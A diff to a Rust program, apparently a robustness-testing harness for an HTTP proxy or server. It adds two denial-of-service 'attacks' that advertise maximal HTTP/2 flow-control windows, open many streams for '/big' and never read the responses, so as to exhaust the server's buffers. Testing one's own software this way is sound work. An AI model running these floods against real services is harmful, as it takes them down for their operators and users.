@@ -40,6 +40,8 @@ const DATA: u8 = 0;
 const HEADERS: u8 = 1;
 const SETTINGS: u8 = 4;
 const WINDOW_UPDATE: u8 = 8;
+/// SETTINGS_INITIAL_WINDOW_SIZE of 2^31 - 1.
+const ALL_OF_EACH_STREAM: [u8; 6] = [0, 4, 0x7f, 0xff, 0xff, 0xff];
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 
@@ -69,11 +71,13 @@ impl Attack {
     }
 }
 
-pub(crate) const ATTACKS: [Attack; 5] = [
+pub(crate) const ATTACKS: [Attack; 7] = [
     Attack::new("full lists of fields", full_lists, Origin::Silent),
     Attack::new("uploads that the origin does not read", uploads, Origin::Silent),
     Attack::new("answers of HTTP/1 that nobody reads", unread_answers, Origin::Http1),
     Attack::new("answers of HTTP/2 that nobody reads", unread_answers, Origin::Http2),
+    Attack::new("the same of HTTP/1, all windows wide", unread_wide, Origin::Http1),
+    Attack::new("the same of HTTP/2, all windows wide", unread_wide, Origin::Http2),
     Attack::new("pipelined requests, answers unread", pipelined, Origin::Http1),
 ];
 
@@ -220,9 +224,20 @@ fn wait_for_window(stream: &mut TcpStream) -> std::io::Result<()> {
     }
 }
 
+/// The window of the whole connection, 65,535 bytes, is what holds answers back.
 fn unread_answers(stream: &mut TcpStream) -> std::io::Result<()> {
-    // SETTINGS_INITIAL_WINDOW_SIZE of 2^31 - 1: the streams do not hold anything back.
-    begin(stream, &[0, 4, 0x7f, 0xff, 0xff, 0xff])?;
+    begin(stream, &ALL_OF_EACH_STREAM)?;
+    ask(stream)
+}
+
+/// Nothing holds answers back but that the client does not read what has come.
+fn unread_wide(stream: &mut TcpStream) -> std::io::Result<()> {
+    begin(stream, &ALL_OF_EACH_STREAM)?;
+    frame(stream, WINDOW_UPDATE, 0, 0, &[0x7f, 0xfe, 0, 0])?;
+    ask(stream)
+}
+
+fn ask(stream: &mut TcpStream) -> std::io::Result<()> {
     for number in 0..STREAMS {
         let flags = END_HEADERS | END_STREAM;
         frame(stream, HEADERS, flags, 2 * number + 1, &request("/big"))?;
